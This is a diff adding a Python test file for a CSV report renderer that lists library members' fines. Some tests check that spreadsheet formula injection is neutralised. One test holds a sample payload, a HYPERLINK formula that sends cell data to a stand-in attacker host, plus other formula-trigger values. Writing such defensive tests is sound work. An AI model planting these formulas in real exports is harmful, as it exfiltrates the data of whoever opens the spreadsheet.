@@ -1,0 +1,111 @@
+"""CSV: read back it says the same, and no name becomes a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from decimal import Decimal
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from report_samples import empty_report, hostile_reports, hostile_texts, member, report_of, sample_report
+
+from evergreen_groups.models import GroupFines, Report, nobody_over_limit
+from evergreen_groups.render import render
+from evergreen_groups.render.comma_separated import GROUP_COLUMNS, MEMBER_COLUMNS, harmless
+
+FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?\d+(\.\d\d)?")
+
+
+def csv_text(report: Report, *, details: bool = True, bom: bool = False) -> str:
+    stream = io.StringIO(newline="")
+    render(report, "csv", stream, details=details, bom=bom)
+    return stream.getvalue()
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
+
+
+def taken_back(cell: str) -> str:
+    """What a reader gets who removes the apostrophe that makes a cell harmless."""
+    return cell[1:] if re.match("'+[=+\\-@\t\r\n＝＋－＠]", cell) else cell
+
+
+def test_one_row_for_each_member() -> None:
+    report = sample_report()
+    read = rows(csv_text(report))
+    members = [(group, one) for group in report.groups for one in group.members]
+    assert len(read) == len(members)
+    for row, (group, one) in zip(read, members, strict=True):
+        assert row["group"] == str(group.group)
+        assert Decimal(row["combined_fines"]) == group.combined_fines
+        assert row["nobody_over_limit"] == str(nobody_over_limit(group, report.criteria.limit)).lower()
+        assert row["lead_name"] == group.lead.name
+        assert row["member_id"] == str(one.id)
+        assert row["member_name"] == one.name
+        assert row["member_barcode"] == (one.barcode or "")
+        assert row["member_own_fines"] == f"{one.own_fines:.2f}"
+
+
+def test_one_row_for_each_group_without_details() -> None:
+    text = csv_text(sample_report(), details=False)
+    assert tuple(text.split("\r\n")[0].split(",")) == GROUP_COLUMNS
+    assert [row["group"] for row in rows(text)] == ["1187", "902", "2240", "85", "31007"]
+
+
+def test_incomplete_groups() -> None:
+    read = {row["group"]: row for row in rows(csv_text(sample_report(), details=False))}
+    assert (read["902"]["complete"], read["902"]["hidden_member_count"]) == ("true", "0")
+    assert (read["2240"]["complete"], read["2240"]["hidden_member_count"]) == ("false", "2")
+    assert (read["2240"]["hidden_fines"], read["31007"]["hidden_fines"]) == ("6.40", "")
+
+
+def test_header_alone_when_empty() -> None:
+    assert csv_text(empty_report()) == ",".join(GROUP_COLUMNS + MEMBER_COLUMNS) + "\r\n"
+
+
+def test_byte_order_mark() -> None:
+    assert csv_text(sample_report(), bom=True) == "\ufeff" + csv_text(sample_report())
+
+
+def test_credit_stays_a_number() -> None:
+    assert "-3.25" in [row["member_own_fines"] for row in rows(csv_text(sample_report()))]
+
+
+def test_formulas_are_made_harmless() -> None:
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    report = report_of([GroupFines(1, (member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
+    [row] = rows(csv_text(report))
+    assert row["member_name"] == "'" + hostile
+    assert row["lead_name"] == "'" + hostile
+    assert (row["member_barcode"], row["member_library"], row["library"]) == ("'-1+1", "'@SUM(A1)", "'@SUM(A1)")
+
+
+@given(hostile_texts)
+def test_the_apostrophe_can_be_taken_back(text: str) -> None:
+    assert not harmless(text).startswith(FORMULA_SIGNS)
+    assert taken_back(harmless(text)) == text
+
+
+@settings(deadline=None, max_examples=60)
+@given(hostile_reports(), st.booleans())
+def test_hostile_names_read_back(report: Report, bom: bool) -> None:
+    text = csv_text(report, bom=bom)
+    text.encode("utf-8")
+    read = rows(text.removeprefix("\ufeff"))
+    members = [one for group in report.groups for one in group.members]
+    assert [taken_back(row["member_name"]) for row in read] == [one.name for one in members]
+    assert [taken_back(row["member_barcode"]) for row in read] == [one.barcode or "" for one in members]
+    assert [row["member_own_fines"] for row in read] == [f"{one.own_fines:.2f}" for one in members]
+    for row in read:
+        assert None not in row
+        assert all(not cell.startswith(FORMULA_SIGNS) or NUMBER.fullmatch(cell) for cell in row.values())
+
+
+def test_half_a_surrogate_pair_does_not_stop_the_report() -> None:
+    report = report_of([GroupFines(1, (member(1, "Smith\ud83d", "30.00"),))])
+    csv_text(report).encode("utf-8")
+    assert rows(csv_text(report))[0]["member_name"] == "Smith\ufffd"
